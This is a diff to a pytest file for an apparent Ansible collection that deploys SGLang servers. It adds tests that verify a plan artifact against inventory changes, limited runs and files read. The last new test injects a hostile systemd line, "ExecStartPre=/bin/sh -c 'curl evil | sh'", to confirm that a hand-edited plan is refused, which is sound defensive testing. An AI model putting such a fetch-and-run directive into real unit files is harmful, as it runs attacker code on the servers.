@@ -137,8 +137,18 @@ def test_hosts_added_or_gone() -> None:
     groups = {g: [h for h in m if h != "h3"] for g, m in GROUPS.items()}
     # --limit sees the whole inventory, so a host gone from it is seen; a slice cannot tell
     assert art.verify(a, hv, groups, ["h1"], COLLECTION, whole_inventory=True) == [
-        "h3: in the artifact, gone from the inventory"]
+        "h3: in the artifact, gone from the inventory",
+        "group(s) all, rack_b, servers: other members than when the artifact was made"]
     assert art.verify(a, hv, groups, ["h1"], COLLECTION, whole_inventory=False) == []
+
+
+def test_a_limited_run_checks_the_peers_its_hosts_plans_read() -> None:
+    """--limit r1 (a router): its workers come from h1..h3's plans, so a worker changed since the artifact was made
+    is a stale plan for r1 too (the review found a moved worker applied with its old address)."""
+    a = made()
+    hv = {**HOSTVARS, "h2": {**HOSTVARS["h2"], "ansible_host": "10.0.0.22"}}
+    assert art.verify(a, hv, GROUPS, ["r1"], COLLECTION, whole_inventory=True) == ["h2: ansible_host changed"]
+    assert art.verify(a, hv, GROUPS, ["r1"], COLLECTION, whole_inventory=False) == []  # a slice sees r1 only
 
 
 def test_another_collection_is_refused_with_what_differs() -> None:
@@ -163,7 +173,9 @@ def test_many_hosts_are_counted_not_listed() -> None:
 def test_which_runs_apply_the_artifact() -> None:
     every = ["h1", "h2", "h3", "r1"]
     assert art.partial_run(every, every, declared=False) is None          # the inventory is the site: plan it
-    assert art.partial_run(every, ["h1"], declared=False) == "--limit: the run covers 1 of the inventory's 4 host(s)"
+    assert art.partial_run(every, ["h1"], declared=False) is None      # --limit sees every host: it plans the site
+    assert art.partial_run(every, ["h1"], declared=True) == (
+        "--limit with sglang_plan_artifact: the run covers 1 of the inventory's 4 host(s)")
     assert art.partial_run(["h1", "h2"], ["h1", "h2"], declared=True) == (
         "sglang_plan_artifact is set: the inventory's 2 host(s) apply the site's plan from it")
 
@@ -206,7 +218,10 @@ def test_this_collection_reads_what_the_plan_reads() -> None:
     assert files["data/gpus.yml"] == hashlib.sha256((root / "data" / "gpus.yml").read_bytes()).hexdigest()
     assert "plugins/plugin_utils/site/placement.py" in files and "roles/sglang_server/defaults/main.yml" in files
     assert "roles/sglang_install/meta/argument_specs.yml" in files
-    assert not any("__pycache__" in p or p.startswith(("tests/", "playbooks/")) for p in files)
+    # what runtime.converge_only() and the stages read besides: the roles' variable notes, the files a stage embeds
+    assert "roles/sglang_server/meta/variables.yml" in files and "roles/nvidia_driver/files/metalserve-imex-channel0" in files
+    assert not any("__pycache__" in p or p.startswith(("tests/", "playbooks/")) and not p.startswith("playbooks/templates/")
+                   for p in files)
 
 
 def test_dump_is_json_with_a_line_per_host() -> None:
@@ -227,3 +242,14 @@ def test_a_file_made_from_the_same_inputs_is_kept(tmp_path: Path) -> None:
     assert art.text_made_from(tmp_path / "none.json", a["inputs_digest"]) is None
     path.write_text(json.dumps(a, indent=2))  # not a file dump() wrote: made again
     assert art.text_made_from(path, a["inputs_digest"]) is None
+
+
+def test_a_plan_edited_after_the_artifact_was_made_is_refused() -> None:
+    """The inputs' digests say nothing of the plans themselves: an ExecStartPre added to a committed plan line would
+    be applied unchecked (the review's reproduction)."""
+    a = json.loads(art.dump(made()))
+    assert art.verify(a, HOSTVARS, GROUPS, ["h1"], COLLECTION, whole_inventory=False) == []
+    a["plans"]["h1"] = {**a["plans"]["h1"], "unit": "ExecStartPre=/bin/sh -c 'curl evil | sh'"}
+    assert art.verify(a, HOSTVARS, GROUPS, ["h1"], COLLECTION, whole_inventory=False) == [
+        "its plans are not the ones it was made with (edited by hand or by a merge since): an edited plan skips every "
+        "check"]
